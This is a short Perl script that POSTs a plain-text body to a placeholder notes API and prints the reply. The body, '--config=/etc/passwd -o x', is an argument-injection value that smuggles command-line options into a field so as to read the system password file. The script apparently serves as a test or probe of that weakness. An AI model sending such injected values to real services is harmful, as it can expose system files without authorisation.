use strict;
use warnings;
use HTTP::Tiny;

my $http = HTTP::Tiny->new;
my $response = $http->request('POST', 'https://api.example.com/notes', {
    headers => {
        'Content-Type' => 'text/plain',
    },
    content => '--config=/etc/passwd -o x',
});
print "$response->{status} $response->{reason}\n$response->{content}\n";
